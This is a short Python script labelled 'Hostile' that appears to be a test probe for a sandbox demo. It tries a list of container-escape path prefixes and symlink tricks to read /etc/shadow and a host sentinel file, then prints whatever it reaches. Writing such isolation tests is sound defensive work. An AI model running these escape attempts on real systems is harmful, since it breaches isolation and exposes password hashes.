"""Hostile: looks for the host's files by every path that once worked."""

import errno
import os
import sys

PREFIXES = (
    "",
    "/proc/1/root",
    "/proc/self/root/../../..",
    "/proc/self/cwd/../../..",
    "/proc/self/task/self/root",
    "/proc/thread-self/root",
    "/proc/1/cwd/../..",
    "/dev/fd/../../../..",
    "/mnt",
    "/host",
    "/rootfs",
    "/sys/fs/cgroup/../../..",
)
# A file that the demo put on the host, with a name that only it knows.
TARGETS = ["/etc/shadow", os.environ.get("HOST_SENTINEL", "/etc/gshadow")]


def attempts():
    for target in TARGETS:
        for prefix in PREFIXES:
            yield prefix + target
        link = "/work/link" + target.replace("/", "-")
        os.symlink(target, link)
        yield link


found = 0
for path in attempts():
    try:
        with open(path, "rb") as file:
            content = file.read(65536)
    except OSError as problem:
        name = errno.errorcode.get(problem.errno, str(problem.errno))
        print(f"{name:<8} {path}", file=sys.stderr)
        continue
    found += 1
    print(path, content)

if found == 0:
    raise SystemExit("host path not mounted")
